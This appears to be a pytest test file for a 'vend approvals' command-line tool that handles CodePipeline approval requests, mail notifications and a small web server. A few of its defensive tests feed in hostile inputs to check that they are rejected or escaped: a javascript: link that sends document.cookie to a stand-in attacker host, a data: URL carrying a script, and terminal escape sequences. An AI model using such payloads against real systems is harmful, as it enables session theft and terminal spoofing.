"""`vend approvals` through click's CliRunner (and `serve` as a real process)."""
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from datetime import datetime, timezone

import boto3
import pytest
from botocore.stub import ANY, Stubber
from click.testing import CliRunner

from tests.approvals.test_sns import NOTIFICATION
from vendor.approvals.gate import Gate
from vendor.approvals.model import APPROVED, PENDING, PipelineRef, Summary
from vendor.approvals.settings import Settings
from vendor.approvals.store import Store
from vendor.cli import approvals as cli_module
from vendor.cli.approvals import approvals
from vendor.aws.codepipeline import PipelineApprovals


@pytest.fixture
def env(tmp_path):
    return {"VEND_STATE_DIR": str(tmp_path / "state"), "VEND_MAIL_TRANSPORT": "maildir",
            "VEND_APPROVALS_KEY": "", "VEND_APPROVALS_BIND": "", "VEND_APPROVALS_PUBLIC_URL": ""}


@pytest.fixture
def run(env):
    def invoke(*args):
        return CliRunner().invoke(approvals, list(args), env=env, catch_exceptions=False)
    return invoke


@pytest.fixture
def stub(monkeypatch):
    """The CLI's CodePipeline calls go to a real client checked by botocore's Stubber."""
    client = boto3.client("codepipeline", region_name="us-east-1", aws_access_key_id="testing",
                          aws_secret_access_key="testing")
    monkeypatch.setattr(cli_module, "PipelineApprovals", lambda: PipelineApprovals(client))
    with Stubber(client) as s:
        yield s
        s.assert_no_pending_responses()


def _open(env, **kw):
    settings = Settings.from_env(env)
    return Gate.from_settings(settings).request(
        customer="acme", environment="production", approvers=["ann@example.com"],
        summary=Summary("r42", "abc123", "ami-0abc", ("Fix login",)), timeout=3600, **kw), Store(settings.db_path)


def test_list_show_approve_and_refuse_twice(run, env):
    assert run("list").output == "nothing is waiting for approval\n"
    r, store = _open(env)
    out = run("list").output
    assert out.startswith(f"{r.id}  acme/production  r42  pending  expires ")
    shown = run("show", r.id).output
    assert "customer:    acme\n" in shown and "approvers:   ann@example.com\n" in shown and "  - Fix login\n" in shown

    result = run("approve", r.id, "-m", "ship it", "--by", "ann")
    assert (result.exit_code, result.output) == (0, f"{r.id} approved by ann\n")
    d = store.get(r.id).decision
    assert (d.status, d.by, d.via, d.comment, d.source) == (APPROVED, "ann", "cli", "ship it",
                                                            f"cli on {socket.gethostname()}")
    again = run("reject", r.id, "--by", "bob")
    assert again.exit_code == 1
    assert f"{r.id} was already approved by ann (cli); nothing changed" in again.output
    assert "decided by:  ann" in run("show", r.id).output
    assert r.id in run("list", "--all").output and run("list").output == "nothing is waiting for approval\n"


def test_unknown_request_is_a_user_error(run):
    for args in (("approve", "apr-nope"), ("show", "apr-nope")):
        result = run(*args)
        assert result.exit_code == 2 and "no approval request 'apr-nope'" in result.output


def test_outbox_lists_and_prints_mail(run, env):
    assert "is empty" in run("outbox").output
    r, _ = _open(env)
    line = run("outbox").output.strip()
    key = line.split()[0]
    assert line.endswith("ann@example.com  Approval needed: acme/production r42")
    text = run("outbox", key).output
    assert "Approve: http://127.0.0.1:8377/r/" in text and f"Request:      {r.id}" in text
    assert run("outbox", "nope").exit_code == 2


def test_notify_opens_once_per_token_and_cli_decision_reaches_codepipeline(run, env, tmp_path, stub):
    path = tmp_path / "notification.json"
    expires = time.strftime("%Y-%m-%dT%H:%MZ", time.gmtime(time.time() + 7 * 86400))
    message = {**NOTIFICATION, "approval": {**NOTIFICATION["approval"], "expires": expires}}
    path.write_text(json.dumps({"Type": "Notification", "Message": json.dumps(message)}))
    first = run("notify", str(path), "--revision", "r42")
    assert first.exit_code == 0 and first.output.endswith("opened; mailed ann@example.com\n"), first.output
    rid = first.output.split()[0]
    assert run("notify", str(path)).output == f"{rid} already open for this approval\n"
    r = Store(Settings.from_env(env).db_path).get(rid)
    assert (r.customer, r.environment, r.summary.revision) == ("acme", "production", "r42")
    assert r.summary.details_url == NOTIFICATION["consoleLink"]

    stub.add_response("put_approval_result", {"approvedAt": datetime.now(timezone.utc)}, {
        "pipelineName": "acme-production", "stageName": "Release", "actionName": "Approve",
        "token": "1a2b3c4d-573f-4ea7-a67e-EXAMPLETOKEN",
        "result": {"status": "Approved", "summary": "Approved by ann via vend cli from cli on "
                                                    f"{socket.gethostname()}: ok"}})
    assert run("approve", rid, "--by", "ann", "-m", "ok").exit_code == 0


def test_refused_by_codepipeline_the_cli_leaves_it_pending(run, env, stub):
    r, store = _open(env, pipeline=PipelineRef("acme-production", "Release", "Approve", "tok-old"))
    stub.add_client_error("put_approval_result", "InvalidApprovalTokenException", "stale token")
    result = run("approve", r.id, "--by", "ann")
    assert result.exit_code == 1
    assert "CodePipeline did not accept the decision (InvalidApprovalTokenException: stale token)" in result.output
    assert store.get(r.id).status == PENDING


def test_notify_needs_who_and_what(run, tmp_path):
    path = tmp_path / "n.json"
    path.write_text(json.dumps({"approval": {**NOTIFICATION["approval"], "customData": ""}}))
    result = run("notify", str(path))
    assert result.exit_code == 2 and "need --customer, --environment" in result.output
    path.write_text("{}")
    assert "not a CodePipeline approval notification" in run("notify", str(path)).output


def test_poll_opens_a_request_for_the_waiting_approval(run, env, stub):
    since = datetime.now(timezone.utc)
    state = {"pipelineName": "acme-production", "stageStates": [{"stageName": "Release", "actionStates": [
        {"actionName": "Approve", "latestExecution": {"status": "InProgress", "token": "tok-9",
                                                      "lastStatusChange": since}}]}]}
    stub.add_response("get_pipeline_state", state, {"name": "acme-production"})
    args = ("poll", "acme-production", "--stage", "Release", "--action", "Approve", "--customer", "acme",
            "--environment", "production", "--approver", "ann@example.com")
    result = run(*args)
    assert result.exit_code == 0, result.output
    rid = result.output.split()[0]
    r = Store(Settings.from_env(env).db_path).get(rid)
    assert (r.pipeline.token, r.status) == ("tok-9", PENDING)
    assert r.expires_at == pytest.approx(since.timestamp() + 7 * 86400)

    stub.add_response("put_approval_result", {"approvedAt": since}, {
        "pipelineName": "acme-production", "stageName": "Release", "actionName": "Approve",
        "token": "tok-9", "result": {"status": "Rejected", "summary": ANY}})
    assert run("reject", rid, "--by", "bob").output == f"{rid} rejected by bob\n"

    state["stageStates"][0]["actionStates"][0]["latestExecution"]["status"] = "Succeeded"
    stub.add_response("get_pipeline_state", state, {"name": "acme-production"})
    assert run(*args).output == "acme-production/Release/Approve is not waiting for approval\n"


def test_serve_runs_a_real_server_process(env, tmp_path):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    code = "import sys; from vendor.cli.approvals import approvals; approvals(sys.argv[1:])"
    proc = subprocess.Popen([sys.executable, "-c", code, "serve", "--bind", f"127.0.0.1:{port}",
                             "--public-url", "https://approvals.example.com"],
                            env={**os.environ, **env}, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 30  # a cold interpreter importing the web stack, on a busy machine
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=1) as resp:
                    assert resp.read() == b"ok\n"
                    break
            except OSError:
                assert time.monotonic() < deadline and proc.poll() is None, "server did not come up"
                time.sleep(0.05)
    finally:
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=10)
    assert f"serving on http://127.0.0.1:{port} (links point at https://approvals.example.com)" in err
    assert "approvals.key" not in err and (tmp_path / "state" / "approvals.key").exists()


def test_serve_rejects_a_bad_address(run):
    result = run("serve", "--bind", "nonsense")
    assert result.exit_code == 2 and "not HOST:PORT" in result.output


@pytest.fixture
def catcher(tmp_path, env):
    """A real SMTP server catching what `vend approvals` mails; env sends to it."""
    from aiosmtpd.controller import Controller
    from vendor.approvals import outbox
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    controller = Controller(outbox.Catcher(tmp_path / "caught"), hostname="127.0.0.1", port=port)
    controller.start()
    env.update({"VEND_MAIL_TRANSPORT": "smtp", "VEND_SMTP_HOST": "127.0.0.1", "VEND_SMTP_PORT": str(port)})
    yield lambda: outbox.entries(tmp_path / "caught")
    controller.stop()


def _notification(tmp_path, **approval) -> str:
    path = tmp_path / "n.json"
    expires = time.strftime("%Y-%m-%dT%H:%MZ", time.gmtime(time.time() + 86400))
    top = {k: approval.pop(k) for k in list(approval) if k in ("consoleLink", "Message")}
    path.write_text(json.dumps({**NOTIFICATION, **top,
                                "approval": {**NOTIFICATION["approval"], "expires": expires, **approval}}))
    return str(path)


@pytest.mark.parametrize("fields, problem", [
    ({"pipelineName": 5}, "approval.pipelineName must be text, not a number"),
    ({"expires": ["2024-07-07T20:22Z"]}, "approval.expires must be text, not a list"),
    ({"token": {"t": 1}}, "approval.token must be text, not a mapping"),
    ({"customData": json.dumps({"customer": "acme", "environment": "production", "approvers": "ann@example.com"})},
     "customData approvers must be a list of email addresses, not text"),
    ({"customData": json.dumps({"customer": 7, "environment": "production", "approvers": ["ann@example.com"]})},
     "customData customer must be text, not a number"),
    ({"consoleLink": 12}, "consoleLink must be text, not a number"),
    ({"consoleLink": "javascript:fetch('//evil.example/'+document.cookie)"},
     "consoleLink 'javascript:fetch('//evil.example/'+document.cookie)' is not an https: or http: link"),
    ({"approvalReviewLink": "data:text/html,<script>alert(1)</script>"},
     "approval.approvalReviewLink 'data:text/html,<script>alert(1)</script>' is not an https: or http: link"),
])
def test_notify_refuses_wrong_types_and_non_web_links(run, tmp_path, catcher, fields, problem):
    """`vend approvals notify` refuses a notification with fields of the wrong type or a non-http(s) link, naming the field; nothing is mailed."""
    path = _notification(tmp_path, **fields)
    result = run("notify", path)
    assert (result.exit_code, result.output) == (2, f"vend approvals: {path}: {problem}\n")
    assert catcher() == []


def test_notify_mails_the_console_link_through_smtp(run, tmp_path, catcher):
    result = run("notify", _notification(tmp_path))
    assert result.exit_code == 0, result.output
    [mail] = catcher()
    from vendor.approvals import outbox
    text = outbox.text_of(outbox.read(tmp_path / "caught", mail.key))
    assert f"Details:      {NOTIFICATION['consoleLink']}" in text


def test_terminal_escapes_in_comments_are_shown_escaped(run, env):
    """Control characters in an approver's comment (or name) are printed escaped, never sent to the terminal raw."""
    r, store = _open(env)
    evil = "ok\x1b]0;pwned\x07\x1b[2J\rdone\u202e"
    result = run("approve", r.id, "--by", "ann\x1b[31m", "-m", evil)
    assert (result.exit_code, result.output) == (0, f"{r.id} approved by ann\\x1b[31m\n")
    shown = run("show", r.id).output
    assert "comment:     ok\\x1b]0;pwned\\x07\\x1b[2J\\rdone\\u202e\n" in shown
    assert "decided by:  ann\\x1b[31m\n" in shown
    assert "\x1b" not in shown and "\x1b" not in run("list", "--all").output
    again = run("reject", r.id, "--by", "bob")
    assert again.output == f"vend approvals: {r.id} was already approved by ann\\x1b[31m (cli); nothing changed\n"


def test_corrupt_database_is_named_with_the_fix(run, env, tmp_path):
    """An approvals database that is not one gives one line naming the file and what to do, no traceback."""
    db = tmp_path / "state" / "approvals.sqlite3"
    db.parent.mkdir(parents=True)
    db.write_bytes(b"this is not a database" * 100)
    for args in (("list",), ("show", "apr-1"), ("approve", "apr-1")):
        result = CliRunner().invoke(approvals, list(args), env=env)
        assert (result.exit_code, result.output) == (2, (
            f"vend approvals: {db} is not a readable approvals database (file is not a database); "
            f"move it aside to start afresh (pending requests in it are lost): mv {db} {db}.corrupt\n")), args


def test_serve_checks_the_key_before_it_says_serving(run, env, tmp_path):
    """`vend approvals serve` with a bad key file fails with the fix, and never says it is serving."""
    key = tmp_path / "state" / "approvals.key"
    key.parent.mkdir(parents=True)
    key.write_text("k" * 64 + "\n")
    key.chmod(0o644)
    result = CliRunner().invoke(approvals, ["serve", "--bind", "127.0.0.1:0"], env=env)
    assert (result.exit_code, result.output) == (
        2, f"vend approvals: {key}: key file is readable by others (mode 644); run: chmod 600 {key}\n")


def test_serve_on_every_address_needs_a_public_url(run, monkeypatch):
    """`--bind 0.0.0.0` without a public URL is refused: mails would carry http://0.0.0.0 links."""
    def would_serve(settings, **kw):  # never listen on every address in a test
        raise SystemExit("vend approvals: would serve on every address")
    monkeypatch.setattr(cli_module.server, "serve", would_serve)
    for bind in ("0.0.0.0:8377", "[::]:8377"):
        result = run("serve", "--bind", bind)
        assert (result.exit_code, result.output) == (2, (
            f"vend approvals: bind address {bind} listens on every address, so it cannot be the base of the "
            "links in mails; give the address approvers reach with --public-url or VEND_APPROVALS_PUBLIC_URL "
            "(e.g. https://approvals.example.com)\n")), bind


def test_links_are_never_mailed_for_an_every_address_bind(run, env, tmp_path, catcher):
    """With a 0.0.0.0 bind and no public URL, notify refuses instead of mailing http://0.0.0.0 links (nothing reaches the SMTP catcher)."""
    env["VEND_APPROVALS_BIND"] = "0.0.0.0:8377"
    result = run("notify", _notification(tmp_path))
    assert result.exit_code == 2 and "listens on every address" in result.output
    assert catcher() == []
